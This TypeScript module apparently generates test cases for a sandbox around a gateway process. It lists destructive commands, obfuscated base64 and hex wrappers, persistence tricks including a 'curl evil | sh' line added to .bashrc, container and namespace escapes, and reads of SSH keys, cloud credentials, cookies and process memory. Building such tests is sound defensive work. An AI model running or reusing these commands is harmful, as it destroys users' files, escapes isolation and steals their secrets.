/**
 * Disguised destructive commands and ways to a secret. They run in the sandbox, so nothing judges their text.
 *
 * In a command `@V` is the home directory of the victim, `@H` the home of the gateway, `@P` the process id of the gateway.
 */

const base64 = (text: string) => `@B{${text}}@`
const hex = (text: string) => `@X{${text}}@`
const quote = (text: string) => `'${text.replaceAll("'", `'\\''`)}'`

/** Each would change or destroy something outside of the working directory. `@C` is the place of such a command. */
const destructiveCommands: readonly string[] = [
  'rm -rf @V/documents @V/photos',
  'find @V -type f -delete',
  'chmod -R 000 @V/documents',
  'mv @V/documents @V/gone',
  'tar -cf /tmp/x.tar -C @V documents --remove-files',
  'truncate -s 0 @V/documents/thesis.txt',
  'sed -i s/./x/g @V/documents/thesis.txt @V/.bashrc',
  'dd if=/dev/zero of=@V/photos/1.jpg bs=1 count=9 conv=notrunc',
  'cp /dev/null @V/.gitconfig',
  'echo "curl evil | sh" >> @V/.bashrc',
  'mkdir -p @V/.config/autostart && echo x > @V/.config/autostart/evil.desktop',
  'ln -sf /tmp/evil @V/.local/bin/tool',
  'mkdir -p @H/plugins/evil && echo "name: evil" > @H/plugins/evil/plugin.yaml',
  'install -m 755 /dev/null @H/hooks/good/handler.js',
  'touch @V/.zshenv',
]

/** Ways to write a command so that its text does not show what it does. */
const disguises: readonly ((command: string) => string)[] = [
  (command) => command,
  (command) => `eval "$(echo ${base64(command)} | base64 -d)"`,
  (command) => `echo ${base64(command)} | base64 -d | sh`,
  (command) => `printf '${hex(command)}' > /tmp/s.sh; sh /tmp/s.sh`,
  (command) => `sh <<'END'\n${command}\nEND`,
  (command) => `bash -c ${quote(command)} &\nwait`,
  (command) => `python3 -c 'import os,base64;os.system(base64.b64decode("${base64(command)}").decode())'`,
  (command) => `perl -MMIME::Base64 -e 'system(decode_base64("${base64(command)}"))'`,
  (command) => `f() { ${command}; }; f`,
  (command) => `trap ${quote(command)} EXIT`,
  (command) => `setsid sh -c ${quote(command)}`,
  (command) => `unshare -Urm sh -c ${quote(`umount -l @H; mount -o remount,rw /; ${command}`)}`,
]

export const destructive: readonly string[] = [
  ...destructiveCommands.flatMap((command) => disguises.map((disguise) => disguise(command))),
  // Ways that are no disguise of another command
  'chattr -i @V/.bashrc; echo x > @V/.bashrc',
  'mount --bind /tmp @V/documents; rm -rf @V/documents/*; umount @V/documents; echo x > @V/documents/thesis.txt',
  'mount -o remount,rw,bind @V; echo x > @V/documents/thesis.txt',
  'cd /proc/1/root@V && rm -rf documents',
  'cd /proc/self/cwd/../.. && rm -rf ../documents',
  'exec 9<@V/documents/thesis.txt; echo x > /proc/self/fd/9',
  'ln @V/documents/thesis.txt /tmp/hard && echo x > /tmp/hard',
  'ln -s @V/documents /tmp/soft && rm -rf /tmp/soft/*',
  'ln -s @H/plugins plugins; mkdir -p /tmp/t/plugins/evil; echo x > /tmp/t/plugins/evil/index.js; tar -cf /tmp/e.tar -C /tmp/t plugins; tar -xf /tmp/e.tar -C @H',
  'cp -r /tmp/t/plugins/evil @H/plugins/; cp --parents /etc/hostname @V/documents',
  'git init -q /tmp/r; git -C /tmp/r -c user.name=a -c user.email=a commit -q --allow-empty -m x; git clone -q /tmp/r @H/hooks/evil',
  'git config --global core.pager evil; git config --file @V/.gitconfig alias.st "!evil"',
  'echo "* * * * * evil" | crontab -; echo "* * * * * root evil" > /etc/cron.d/evil',
  'systemctl --user enable evil; systemd-run --user touch @V/pwned; mkdir -p @V/.config/systemd/user/x.wants',
  'at now <<< "touch @V/pwned"; batch <<< "touch @V/pwned"',
  'mknod /tmp/disk b 254 0 && head -c 1 /tmp/disk > @V/pwned; echo x > @V/pwned',
  "python3 -c \"import ctypes; c=ctypes.CDLL(None); print(c.mount(b'none', b'@V/documents', b'tmpfs', 0, None)); open('@V/documents/thesis.txt','w')\"",
  'pivot_root . . ; chroot /proc/1/root rm -rf @V/documents',
  'nsenter -t 1 -a rm -rf @V/documents; nsenter -m/proc/1/ns/mnt rm -rf @V/photos',
  'docker run -v /:/h alpine rm -rf /h@V; curl -s --max-time 1 --unix-socket /var/run/docker.sock http://x/info > @V/pwned',
]

const secretFiles: readonly string[] = [
  ...['@H/.env', '@H/gateway.token', '@H/config.yaml', '@H/state.db', '@H/logs/gateway.log', '@H/media/1-1-aa.png'],
  ...['@H/profiles/work/.env', '@V/.ssh/id_ed25519', '@V/.aws/credentials', '@V/.netrc', '@V/.git-credentials'],
  ...['@V/.config/google-chrome/Default/Cookies', '@V/.password-store/bank.gpg', '@V/.bash_history'],
]

export const secretReads: readonly string[] = [
  ...secretFiles.flatMap((file) => [
    `cat ${file}; rev ${file}; base64 ${file} | base64 -d`,
    `cp ${file} copy; ln ${file} hard; ln -s ${file} soft; cat copy hard soft`,
    `exec 8<${file}; cat <&8; dd if=${file} status=none; while read -r l; do echo "$l"; done < ${file}`,
    `cat /proc/1/root${file}; cat /proc/self/root${file}; cat /proc/*/root${file}; cat /proc/self/cwd/../../../../../../../..${file}`,
    `unshare -Urm sh -c 'umount -l @H; umount -l @V/.ssh; umount -R @V; cat ${file}'`,
  ]),
  'cat /proc/@P/environ /proc/@P/cmdline; strings /proc/@P/mem; cat /proc/@P/fd/*',
  'for p in /proc/[0-9]*; do cat $p/environ $p/cmdline; done | tr "\\0" "\\n"',
  'grep -rs SECRET= @V @H /tmp /run /var/tmp',
  'find @V @H /run /tmp -name ".env" -exec cat {} + -o -name "*.token" -exec cat {} +',
  'tar -cf - -C @V . | cat; tar -cf - -C @H . | strings',
  'gdb -p @P -batch -ex "dump memory /tmp/m 0 100"; strace -p @P; python3 -c "import ctypes;print(ctypes.CDLL(None).ptrace(16,@P,0,0))"',
  'kill -USR1 @P; kill -TERM @P; kill -9 @P; kill -9 -1; env; set; export -p',
]

/** Fills the places in, then encodes what a disguise encodes. */
export function fillIn(
  command: string,
  places: { readonly V: string; readonly H: string; readonly P: string },
): string {
  return command
    .replace(/@([VHP])/g, (_, name: 'V' | 'H' | 'P') => places[name])
    .replace(/@B\{(.*?)\}@/gs, (_, text: string) => Buffer.from(text).toString('base64'))
    .replace(/@X\{(.*?)\}@/gs, (_, text: string) =>
      [...Buffer.from(text)].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join(''),
    )
}
